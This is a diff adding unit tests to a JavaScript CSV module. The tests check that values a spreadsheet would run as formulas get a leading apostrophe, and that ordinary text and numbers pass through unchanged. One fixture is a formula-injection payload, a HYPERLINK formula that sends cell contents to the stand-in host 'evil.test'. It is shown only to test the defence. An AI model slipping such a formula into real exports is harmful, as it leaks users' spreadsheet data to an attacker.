@@ -145,6 +145,27 @@ describe('CSV', () => {
     );
   });
 
+  it('neutralises text that a spreadsheet would run as a formula, with a leading apostrophe', () => {
+    expect(
+      csvLine([
+        '=HYPERLINK("http://evil.test/?d="&A2,"Click")',
+        '+201000000001',
+        '-2+3',
+        '@SUM(A1:A9)',
+        '\t=1+1',
+        '\r=1+1',
+      ]),
+    ).toBe(
+      `"'=HYPERLINK(""http://evil.test/?d=""&A2,""Click"")",'+201000000001,'-2+3,'@SUM(A1:A9),'\t=1+1,"'\r=1+1"\r\n`,
+    );
+  });
+
+  it('leaves other text, and numbers of its own, as they are', () => {
+    expect(csvLine(['Sara = Sarah', 'a-b', 'x@y.test', -5, 0])).toBe(
+      'Sara = Sarah,a-b,x@y.test,-5,0\r\n',
+    );
+  });
+
   it('writes the header, then a line per row', () => {
     expect(toCsv(['Name', 'Offer'], [['Sara', sara.offer]])).toBe(
       'Name,Offer\r\nSara,"3 levels, 1500 ""all in"""\r\n',
